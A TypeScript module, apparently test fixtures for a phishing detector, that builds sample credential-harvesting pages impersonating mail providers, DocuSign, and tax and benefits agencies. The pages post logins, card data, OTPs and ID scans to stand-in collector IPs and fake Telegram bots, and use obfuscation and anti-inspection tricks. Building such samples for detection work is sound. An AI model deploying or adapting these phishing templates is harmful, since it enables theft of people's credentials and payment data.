/** Kits that ask for the credentials of mail, offices, networks and authorities. Inert: nothing answers at their addresses. */
import type { Builders, Saved } from '../browser-report.ts';
import { base64, blob, charCodes, escaped, hexDigits, letters } from '../obfuscation.ts';
import { inlineStyle, sections, table, words } from '../words.ts';

const PIXEL = `data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAGwAAAAYCAYAAAA`;

/** [language, brand, URL, style, collector] */
const MAIL = table(`
en|Microsoft|https://login.micros0ftonline-verify.com/common/oauth2/?e=am9obkBjb250b3Nv|office|https://203.0.113.44/host/admin/js/mj.php
de|Outlook|https://www.schreinerei-hofmann.example/wp-content/plugins/hello-dolly/owa/logon.php?mail=info@kunde.example|owa|post.php
fr|Orange|https://messagerie-orange-securite.web.app/|jquery|https://198.51.100.12/ora/send.php
es|Correo corporativo|https://webmail-actualizacion.weebly.com/|weebly|//www.weebly.com/weebly/apps/formSubmit.php
it|Aruba Webmail|https://webmail.aruba-rinnovo.it-verifica.com/index.php?id=9912|jquery|./inc/engine.php
pt|UOL|http://198.51.100.77/~uol/mail/login.html|plain|salvar.php
nl|Ziggo|https://ziggo-mijn.000webhostapp.com/inloggen/|plain|login-post.php
pl|Poczta WP|https://poczta.wp-pl.logowanie-konta.info/|telegram|https://api.telegram.org/bot0000000000:AAFAKE/sendMessage
tr|Yandex Mail|https://yandex-posta-guncelle.blogspot.com/|formspree|https://formspree.io/f/xxxxfake
ja|Yahoo! JAPAN|https://login.yahoo-co-jp.kq81.top/config/login|mirror|/config/login?.src=ym
zh|QQ邮箱|http://mail.qq.com.exmail-login.cyou/cgi-bin/loginpage|plain|save.asp
ru|Mail.ru|https://e-mail-ru.auth-cloud.site/login?email=test|jquery|auth.php
ar|بريد الشركة|https://bafkreih5fake.ipfs.dweb.link/webmail.html#user@shareka.example|fragment|https://203.0.113.8/wp-admin/css/colors/blue/x.php
en|DocuSign|https://storage.googleapis.com/aonedoc-9912/index.html#jane@example.org|fragment|https://198.51.100.140/docu/next.php
en|Adobe Acrobat|https://pub-9f1a0c2b.r2.dev/adobe-pdf-viewer.html|formspree|https://submit-form.com/fakeid
en|WeTransfer|https://we-tl.on.fleek.co/download.html?email=cfo@example.net|jquery|https://203.0.113.91/we/mail.php
de|IONOS|https://ionos-kundencenter.de.rechnung-offen.com/login|weblate|anmelden.php
de|T-Online|http://t-online-mail.dynv6.net/email/login.php|plain|weiter.php
fr|La Poste mail|https://laposte-net-confirmation.firebaseapp.com/|telegram|https://api.telegram.org/bot0000000000:AAFAKE/sendMessage
cs|Seznam.cz|https://login-szn.cz-overeni.online/|jquery|prihlasit.php
sv|Telia|https://telia-webmail.netlify.app/|netlify|/tack
en|cPanel|https://cpanel-mail-quota.glitch.me/?u=admin@example.com|fragment|https://example.invalid/cp/res.php
en|SharePoint|https://sway-doc-share.workers.dev/9a1f?login=hr@example.com|office|https://203.0.113.44/o365/api
es|Office 365|https://xn--ofice-365-r4a.com/iniciar/|office|https://198.51.100.9/1/2/process.php
en|Google Drive|http://drive-google.com-document.view-only.cf/pdf/index.php|choice|finish.php
zh|企业邮箱|https://hr-salary-2023.s3.ap-east-1.amazonaws.com/index.html|fragment|https://203.0.113.150/api.php`);

const STYLES: Record<string, (brand: string, lang: string, to: string, n: number) => string> = {
  office: (brand, lang, to, n) =>
    `<div id="lightbox"><img class="logo" src="https://aadcdn.msauth.net/shared/1.0/content/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg"><div id="add_em"><input type="email" name="ai" id="ai" placeholder="Email, phone, or Skype"></div><div id="add_pass" style="display:none"><input type="password" name="pr" id="pr" placeholder="${words(lang).password}"><span id="msg" style="color:red;display:none">Your account or password is incorrect. If you don't remember your password, reset it now.</span></div><button id="submit-btn">${words(lang).enter}</button></div><script src="https://code.jquery.com/jquery-3.1.1.min.js"></script><script>/* global $ */
$(document).ready(function(){ var count=0; var hash = window.location.search.split('e=')[1]; if(hash){ $("#ai").val(atob(hash)); $("#add_em").hide(); $("#add_pass").show(); }
$('#submit-btn').click(function(event){ event.preventDefault(); var ai=$("#ai").val(); var pr=$("#pr").val(); count=count+1; $('#msg').hide();
 $.ajax({ dataType:'JSON', url:'${to}', type:'POST', data:{ai:ai,pr:pr,t:'${hexDigits(n, 6)}'}, beforeSend:function(){ $('#submit-btn').html('Verifing...'); }, success:function(r){ $("#pr").val(""); if(count>=2){ count=0; window.location.replace("https://outlook.office.com"); } $('#msg').show(); }, error:function(){ $("#pr").val(""); if(count>=2){ window.location.replace("https://www.office.com"); } $('#msg').show(); } }); }); });
document.oncontextmenu=function(){return false};document.onkeydown=function(e){if(e.keyCode==123||(e.ctrlKey&&e.shiftKey&&e.keyCode==73)||(e.ctrlKey&&e.keyCode==85)){return false}};</script><!-- ${brand} -->`,
  owa: (brand, lang, to) =>
    `<form action="${to}" method="POST" name="logonForm" autocomplete="off"><input type="hidden" name="destination" value="https://outlook.office365.com"><div class="signInInputLabel">E-Mail-Adresse:</div><input name="username" value="info@kunde.example" readonly><div>Kennwort:</div><input type="password" name="password"><div class="signInExpl">${words(lang).threat}</div><input type="submit" value="anmelden"></form><p>© 2016 ${brand}. Verbunden mit Microsoft Exchange</p><script>function clkLgn(){document.logonForm.submit()}</script><!-- Mirrored from mail.kunde.example/owa/auth/logon.aspx by HTTrack Website Copier/3.x [XR&CO'2014], Tue, 14 Mar 2017 09:11:20 GMT -->`,
  jquery: (brand, lang, to, n) =>
    `<div class="box"><img src="${PIXEL}" alt="${brand}"><h3>${brand}</h3><form id="frm"><input type="email" name="email" id="email" placeholder="${words(lang).user}"><input type="password" name="password" id="password" placeholder="${words(lang).password}"><div id="error" class="alert alert-danger" style="display:none"></div><button type="submit" class="btn btn-primary">${words(lang).enter}</button></form></div><script src="https://ajax.googleapis.com/ajax/libs/jquery/2.2.4/jquery.min.js"></script><script>var i=0;$('#frm').submit(function(e){e.preventDefault();$.post('${to}',$(this).serialize()+'&ip='+(window.userip||'')+'&k=${n}',function(d){i++;if(i<2){$('#error').show().text('${words(lang).password}: x');$('#password').val('').focus();}else{location.href='https://www.google.com/'}});});$.getJSON('https://api.ipify.org?format=json',function(d){window.userip=d.ip});</script>`,
  weebly: (brand, lang, to) =>
    `<div id="wsite-content"><h2 class="wsite-content-title">Actualización de ${brand}</h2><p>Su buzón ha alcanzado el 98% de su capacidad. ${words(lang).threat}</p><form enctype="multipart/form-data" action="${to}" method="POST" id="form-5521"><label class="wsite-form-label">Correo *</label><input name="_u4412"><label>Usuario *</label><input name="_u4413"><label>Contrasena *</label><input type="text" name="_u4414"><label>Confirmar contrasena *</label><input name="_u4415"><input name="wsite_subject" style="display:none"><input type="hidden" name="form_version" value="2"><input type="hidden" name="ucfid" value="5521"><input type="submit"></form><script>_W.configDomain = "www.weebly.com";</script></div>`,
  plain: (brand, lang, to) =>
    `<center><table width=780><tr><td><img src="images/logo.gif"></td></tr><tr><td><font face=verdana size=2 color=#cc0000><b>${words(lang).threat}</b></font></td></tr></table><form action="${to}" method="post" name="form1" id="form1"><input name="usuario" type="text" class="campo"><input name="senha" type="password" class="campo"><input type="image" src="images/bt_ok.gif" name="Submit"></form><a href="#">${words(lang).forgot}</a> <a href="#">${brand}</a> <a href="#">Privacy</a></center>`,
  telegram: (brand, lang, to) =>
    `<form onsubmit="return snd(this)"><h1>${brand}</h1><input name="l" placeholder="${words(lang).user}"><input name="p" type="password" placeholder="${words(lang).password}"><button>${words(lang).enter}</button></form><script>const botToken="0000000000:AAFAKE",chatId="-100200";async function snd(f){event.preventDefault();const ip=await(await fetch('https://ipapi.co/json/')).json();const text=\`🔥 ${brand} 🔥\\n👤 \${f.l.value}\\n🔑 \${f.p.value}\\n🌍 \${ip.ip} \${ip.country_name}\\n📱 \${navigator.userAgent}\`;await fetch("${to}",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({chat_id:chatId,text})});location.href="https://www.${letters(4, 5)}.example/";return false}</script>`,
  formspree: (brand, lang, to) =>
    `<div style="background:url(${PIXEL}) no-repeat center/cover;filter:blur(3px);position:fixed;inset:0"></div><div class="modal"><img width="120" src="https://logo.clearbit.com/${brand.split(' ')[0]?.toLowerCase()}.com"><p>To view this document, log in with your email. / ${words(lang).threat}</p><form action="${to}" method="POST"><input type="email" name="email" required><input type="password" name="pass" required placeholder="${words(lang).password}"><input type="hidden" name="_next" value="https://get.adobe.com/reader/"><input type="submit" value="View Document"></form></div>`,
  mirror: (brand, lang, to) =>
    `<header><img src="https://s.yimg.jp/images/login/sp/img/logo.png" alt="${brand}"></header><form name="login_form" method="post" action="${to}"><input type="hidden" name=".crumb" value="x"><input name="login" placeholder="ID/携帯電話番号/メールアドレス"><input type="password" name="passwd"><input type="tel" name="sms" style="display:none" placeholder="確認コード"><button>${words(lang).enter}</button></form><p>${words(lang).threat}</p><script>if(!/iPhone|Android/i.test(navigator.userAgent)){location.replace('https://www.yahoo.co.jp/')}</script>`,
  fragment: (brand, lang, to, n) =>
    `<div id="logoc"><img id="logoimg" height="40"></div><h3 id="dom">${brand}</h3><p>${words(lang).threat}</p><form id="contact"><input type="email" id="email" readonly><input type="password" id="password" placeholder="${words(lang).password}"><button id="submit-btn">${words(lang).enter}</button></form><script>var my_email=window.location.hash.substr(1);if(/^[A-Za-z0-9+\\/=]+$/.test(my_email)&&my_email.indexOf('@')<0){try{my_email=atob(my_email)}catch(e){}}var ind=my_email.indexOf("@");var my_slice=my_email.substr(ind+1);document.getElementById('email').value=my_email;document.getElementById('logoimg').src='https://logo.clearbit.com/'+my_slice;document.title=my_slice.split('.')[0]+' Webmail';var c=0;document.getElementById('contact').onsubmit=function(e){e.preventDefault();c++;var x=new XMLHttpRequest();x.open('POST',${n % 2 ? `'${to}'` : `atob('${base64(to)}')`},true);x.setRequestHeader('Content-type','application/x-www-form-urlencoded');x.send('email='+my_email+'&password='+encodeURIComponent(document.getElementById('password').value));if(c>2)window.location='http://www.'+my_slice;else alert('Invalid password, try again')};</script>`,
  weblate: (brand, lang, to) =>
    `<main><h1>${brand} Kundencenter</h1><p>Ihre letzte Rechnung (18,42 EUR) konnte nicht abgebucht werden. ${words(lang).threat}</p><form action="${to}" method="post"><input name="identifier" placeholder="Kundennummer oder E-Mail"><input name="pw" type="password"><input type="hidden" name="step" value="1"><button>Weiter</button></form></main><footer><a href="https://www.ionos.de/impressum">Impressum</a> <a href="https://www.ionos.de/datenschutz">Datenschutz</a></footer>`,
  netlify: (brand, lang, to) =>
    `<form name="login" method="POST" netlify action="${to}"><input type="hidden" name="form-name" value="login"><h2>${brand} Webmail</h2><p>${words(lang).threat}</p><input name="epost"><input name="losenord" type="password"><button>${words(lang).enter}</button></form>`,
  choice: (brand, _lang, to) =>
    `<div class="main"><h2>${brand}</h2><p>To view shared document, you are required to log in with your email address below:</p>${['gmail', 'outlook', 'aol', 'yahoo', 'office365', 'other'].map((name) => `<a href="#" onclick="show('${name}')"><img src="img/${name}.png"></a>`).join('')}<div id="m" style="display:none"><form method="post" action="${to}"><input type="hidden" name="hidCflag" value="1"><input type="hidden" name="type" id="type"><input name="Email"><input name="Passwd" type="password"><input name="phone" placeholder="Recovery phone"><input type="submit" value="View document"></form></div></div><script>function show(t){document.getElementById('type').value=t;document.getElementById('m').style.display='block'}</script><noscript><meta http-equiv="refresh" content="0;url=https://drive.google.com"></noscript>`,
};

const STATE = table(`
en|HMRC|https://hmrc.gov.uk-taxrefund-claim.com/app/step1.php|You are eligible for a tax refund of £482.10|nino,dob,mmn,sortcode,account,ccnum,cvv
fr|Ameli|https://ameli-renouvellement-vitale.info/portail/infos.php|Votre nouvelle carte Vitale est disponible. Frais d’expédition : 0,90 €|nom,naissance,tel,cc,exp,cvv
fr|ANTAI|https://antai-amende.fr-regularisation.online/paiement|Amende forfaitaire impayée : 35 € avant majoration|plaque,nom,numcarte,mm,aa,crypto
de|ELSTER|http://elster-rueckerstattung.de.com/login/?id=77|Steuerrückzahlung in Höhe von 286,34 EUR bestätigen|iban,pin,kartennummer,cvv,telefon
es|Agencia Tributaria|https://sede-agenciatributaria.reembolso-renta.es.yx.am/|Tiene un reembolso pendiente de 348,20 €|dni,tarjeta,cad,cvv,pinatm
it|INPS|https://inps-bonus.servizi-cittadino.top/accesso/|Aggiorna i dati per ricevere l’indennità di 1.000 €|cf,iban,doc_fronte,doc_retro,selfie
pt|Autoridade Tributária|https://portaldasfinancas-gov.pt.reembolso.click/|Reembolso de IRS: confirme os seus dados|nif,senha,cartao,val,cvc
nl|DigiD|https://digid-verlengen.nl-mijnoverheid.cc/start|Uw DigiD verloopt vandaag|gebruikersnaam,wachtwoord,bsn,iban,pas
pl|Profil Zaufany|https://pz-gov.pl.potwierdz-profil.site/|Nieuiszczony podatek – 7,34 zł|pesel,bank,login,haslo,kod
tr|e-Devlet|https://edevlet-aidatiade.giris-turkiye.net/|Aidat iadeniz: 1.240,00 TL|tckn,sifre,kartno,skt,cvv
ja|国税庁|https://nta-go-jp.etax-nofu.xyz/pay|滞納している所得税をお支払いください（差押最終通知）|name,birth,card,exp,cvv,vpass
zh|社保局|http://203.0.113.77/sbk/index.php|您的社保卡已停用，请重新认证|xm,sfz,yhk,mima,yzm
ru|Госуслуги|https://gosuslugi-vyplata.ru-lk.site/esia|Вам положена выплата 12 500 ₽|snils,login,password,code
ar|أبشر|https://absher-sa.tahdith-bayanat.live/|يجب تحديث بيانات أبشر|id,password,otp,card
en|USPS|https://usps.redelivery-pkg.top/i/update|Your package could not be delivered due to an incorrect house number|name,addr,zip,ccnum,exp,cvv`);

/** Forms that hosts of forms hand out to anybody. */
const FORM_HOSTS: Saved[] = [
  [
    'https://docs.google.com/forms/d/e/1FAIpQLSfake91/viewform?vc=0',
    `<html lang="en"><head><title>AT&amp;T Yahoo Mail Verification</title></head><body><form action="https://docs.google.com/forms/d/e/1FAIpQLSfake91/formResponse" method="POST" id="mG61Hd"><div role="heading">AT&T Yahoo Mail Verification</div><p>${words('en').threat}</p><label>Email Address *</label><input name="entry.77"><label>Pass word *</label><input name="entry.78"><label>Confirm Pass word *</label><input name="entry.79"><input type="hidden" name="fvv" value="1"><input type="hidden" name="fbzx" value="-99"></form><div>Never submit passwords through Google Forms.</div><script>var FB_PUBLIC_LOAD_DATA_ = [null,["",[[1,"Email Address",null,0],[2,"Pass word",null,0]]]];</script></body></html>`,
  ],
  [
    'https://form.jotform.com/233312998812',
    `<html lang="fr"><head><title>Mise à jour SFR Mail</title></head><body><form class="jotform-form" action="https://submit.jotform.com/submit/233312998812" method="post" name="form_233312998812"><input type="hidden" name="formID" value="233312998812"><label>Adresse SFR</label><input name="q3_adresse"><label>Mot de passe SFR</label><input name="q4_motDe"><p>${words('fr').threat}</p></form><script>JotForm&&0;</script></body></html>`.replace(
      '<script>JotForm&&0;</script>',
      '<script src="https://cdn.jotfor.ms/static/prototype.forms.js"></script>',
    ),
  ],
  [
    'https://forms.office.com/Pages/ResponsePage.aspx?id=DQSIkWdsW0fake',
    `<html lang="es"><head><title>Soporte TI: migración de buzón</title></head><body><div id="form-container"><p>El departamento de TI migra todos los buzones. Introduzca sus credenciales para no perder sus mensajes.</p><input aria-label="Correo" name="r1"><input aria-label="Contraseña actual" name="r2" type="text"></div><script>window.OfficeFormServerInfo={"serverInfo":{"serverSessionId":"9a"}};</script></body></html>`,
  ],
  [
    'https://outlook-upgrade-desk.weebly.com/',
    `<html lang="en"><head><title>OUTLOOK WEB APP - Home</title></head><body class="wsite-page-index"><h2>IT HELP DESK 2019</h2><form enctype="multipart/form-data" action="//www.weebly.com/weebly/apps/formSubmit.php" method="POST" id="form-91"><input name="_u91"><label>Domain\\User name</label><input name="_u92"><label>Password</label><input type="password" name="_u93"><input type="hidden" name="ucfid" value="91"></form><div id="weebly-footer-signup-container-v3">Create your own unique website with customizable templates.</div></body></html>`,
  ],
];

export const credentials = {
  formHost: () => FORM_HOSTS,
  mailKit: () =>
    MAIL.map(
      ([lang = 'en', brand = '', url = '', style = 'plain', to = ''], n): Saved => [
        url,
        `${n % 3 === 1 ? '' : '<!DOCTYPE html>\n'}<html lang="${n % 4 ? lang : 'en'}"><head><meta charset="utf-8"><title>${[`${brand}`, `Sign in to ${brand}`, `${brand} - ${words(lang).enter}`, 'Login', ''][n % 5]}</title>${n % 2 ? '<meta name="robots" content="noindex, nofollow, noarchive">' : ''}<link rel="shortcut icon" href="${PIXEL}">${n % 4 === 2 ? inlineStyle(n) : ''}</head><body>${n % 7 === 3 ? sections(lang, '#', n) : ''}${STYLES[style]?.(brand, lang, to, n)}${n % 6 === 5 ? `<div style="display:none">${letters(n, 20_000, 'abcdefghijklmnopqrst    ')}</div>` : ''}</body></html>`,
      ],
    ),
  stateKit: () =>
    STATE.map(([lang = 'en', brand = '', url = '', text = '', fields = ''], n): Saved => {
      const inputs = fields
        .split(',')
        .map(
          (name, i) =>
            `<div class="form-group"><label>${[words(lang).user, words(lang).card, words(lang).expiry, words(lang).password][(i + n) % 4]}</label><input class="form-control" name="${name}" type="${/pin|senha|sifre|pass|haslo|wachtwoord|mima/.test(name) ? 'password' : /doc|selfie/.test(name) ? 'file' : n % 2 ? 'tel' : 'text'}"></div>`,
        )
        .join('');
      const steps = [
        `<form method="post" action="${['step2.php', 'envoi.php', '../system/send_info.php', 'index.php?page=loading', 'php/app/index.php'][n % 5]}">${inputs}<input type="hidden" name="ip" value="198.51.100.${n}"><input type="hidden" name="token" value="${hexDigits(n, 40)}"><button>${words(lang).pay}</button></form>`,
        `<div id="app"><form @submit.prevent="send">${inputs}<button>${words(lang).pay}</button></form></div><script src="https://cdn.jsdelivr.net/npm/vue@2"></script><script src="https://cdn.jsdelivr.net/npm/axios/dist/axios.min.js"></script><script>new Vue({el:'#app',methods:{send(e){axios.post('/api/v1/card',Object.fromEntries(new FormData(e.target))).then(()=>{this.wait()})},wait(){setInterval(()=>{axios.get('/api/v1/cmd?u=${hexDigits(n, 8)}').then(r=>{if(r.data.cmd=='otp')location.href='otp.html';if(r.data.cmd=='badotp')alert('OTP!');if(r.data.cmd=='finish')location.href='https://www.gov.example/'})},3000)}}})</script>`,
      ];
      return [
        url,
        `<!DOCTYPE html><html lang="${lang}"><head><title>${brand}</title><link rel="stylesheet" href="assets/css/${brand.length}.css"><script src="https://cdnjs.cloudflare.com/ajax/libs/jquery.mask/1.14.16/jquery.mask.min.js"></script></head><body oncontextmenu="return false"><img src="./files/logo_${n}.svg" alt="${brand}"><h2>${text}</h2>${steps[n % 2]}<p>${words(lang).threat}</p></body></html>`,
      ];
    }),
  written: () =>
    [
      [
        'https://s3.us-west-2.amazonaws.com/fax-9912/view.htm',
        `<script language="javascript">document.write(unescape('${escaped(`<html><title>OneDrive</title><form action="https://203.0.113.9/next.php" method="post"><input name=email><input type=password name=pass><input type=submit value="Download"></form></html>`)}'));</script>`,
      ],
      [
        'http://wfrtx.example/invoice.shtml',
        `<script>var m='${escaped(escaped('<form method="post" action="http://203.0.113.2/a.php"><b>Excel Online</b><input name="u"><input name="p" type="password"></form>'))}';document.write(unescape(unescape(m)));</script>`,
      ],
      [
        'https://quarantine-portal.pages.dev/?x=9',
        `<script>document.documentElement.innerHTML=decodeURIComponent(escape(atob("${base64('<title>Messages held | Webmail</title><div>You have (6) pending messages. Log in to release.</div><form action="https://198.51.100.3/r.php" method="POST"><input name="login" type="email"><input name="passwd" type="password"></form>')}")));</script>`,
      ],
      [
        'https://voicemail-9a.azurewebsites.net/',
        `<body><script>(function(){var c=[${charCodes('<form action="//198.51.100.4/v.php" method="post"><h3>Voicemail 00:48</h3><input name="usr"><input name="pwd" type="password"></form>', 7)}],s="";for(var i=0;i<c.length;i++)s+=String.fromCharCode(c[i]-7);document.body.innerHTML+=s})()</script></body>`,
      ],
      [
        'https://www.iglesia-nueva-vida.example/wp-includes/SimplePie/dhl/',
        `<script>var _$=atob('${base64('var f=document.createElement("form");f.method="post";f.action="t.php";f.innerHTML="<img src=dhl.png><input name=mail><input name=parola type=password>";document.body.appendChild(f)')}');(new Function(_$))();</script><body>`,
      ],
      [
        'https://secure-msg.r2.example/encrypted.html',
        `<script src="https://cdnjs.cloudflare.com/ajax/libs/crypto-js/4.1.1/crypto-js.min.js"></script><script>let d={"a":"${blob(8, 1800)}","b":"${hexDigits(8, 64)}","c":"${hexDigits(9, 32)}","d":"${hexDigits(10, 24)}"};function CryptoJSAesDecrypt(p,o){var e=CryptoJS.enc.Hex.parse(o.b),i=CryptoJS.enc.Hex.parse(o.c),k=CryptoJS.PBKDF2(p,e,{hasher:CryptoJS.algo.SHA512,keySize:8,iterations:999});return CryptoJS.AES.decrypt(o.a,k,{iv:i}).toString(CryptoJS.enc.Utf8)}document.write(CryptoJSAesDecrypt("${hexDigits(11, 10)}",d));</script>`,
      ],
      [
        'https://portal-check.example/r/9',
        `<form id="d" action="data:text/html;base64,${base64('<form action="https://203.0.113.5/p.php" method=post><h1>PayPal</h1><input name=email><input type=password name=pw></form>')}"></form><p>Loading PayPal Security Center...</p><script>location.href=document.getElementById('d').getAttribute('action')</script>`,
      ],
    ] as Saved[],
} satisfies Builders;
